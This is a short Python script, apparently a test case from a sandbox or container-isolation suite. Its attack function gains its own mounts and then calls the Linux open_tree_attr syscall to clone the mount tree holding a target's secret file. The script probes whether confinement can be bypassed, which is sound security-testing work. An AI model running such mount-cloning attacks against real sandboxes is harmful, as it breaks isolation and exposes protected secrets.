import os
import struct

from calls import AT_FDCWD, call, own_mounts
from inside import run

OPEN_TREE_CLONE = 1
MOUNT_ATTR_RDONLY = 1


def attack(target):
    own_mounts()
    attributes = struct.pack("=QQQQ", MOUNT_ATTR_RDONLY, 0, 0, 0)
    path = os.path.dirname(target.secret).encode()
    call("open_tree_attr", AT_FDCWD, path, OPEN_TREE_CLONE, attributes, len(attributes))


run(attack)
